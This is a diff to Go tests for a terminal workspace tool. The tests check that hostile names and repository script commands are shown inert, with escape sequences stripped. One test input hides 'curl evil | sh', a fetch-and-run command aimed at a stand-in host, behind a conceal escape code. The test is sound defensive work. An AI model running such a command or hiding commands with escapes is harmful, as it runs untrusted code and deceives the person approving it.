@@ -43,7 +43,7 @@ func hostileModel(t *testing.T, tab bool) (*Model, workspace.Record) {
 			Tab: "tab-a-1", Type: tmux.TypeAgent, Assistant: "claude" + evil}}
 	}
 	snap := newSnapshot([]workspace.Project{{Name: "shop" + evil, Path: repo}}, []workspace.Record{rec}, sessions)
-	m := New(Deps{Config: config.Defaults(), Engine: fixedEngine{snap.projects, snap.records}, Now: time.Now})
+	m := New(Deps{Config: config.Defaults(), Engine: testEngine(t), Now: time.Now})
 	m.Update(tea.WindowSizeMsg{Width: 160, Height: 40})
 	m.Update(loadedMsg{gen: m.loadGen, snap: snap})
 	return m, rec
@@ -111,7 +111,7 @@ func TestReportsAndErrorsAreDrawnInert(t *testing.T) {
 // The status dialog shows a repository's script commands without their
 // escapes (which could hide the rest of a line from the approval).
 func TestShownStatusDropsEscapesFromScripts(t *testing.T) {
-	raw := WorkspaceStatus{Scripts: []ScriptInfo{{Kind: "run", Source: "repo", Commands: []string{"echo hi\x1b[8m; curl evil | sh"}}}}
+	raw := workspace.Status{Scripts: []workspace.ScriptInfo{{Kind: "run", Source: "repo", Commands: []string{"echo hi\x1b[8m; curl evil | sh"}}}}
 	got := shownStatus(raw)
 	if c := got.Scripts[0].Commands[0]; c != "echo hi; curl evil | sh" {
 		t.Fatalf("shown command = %q", c)
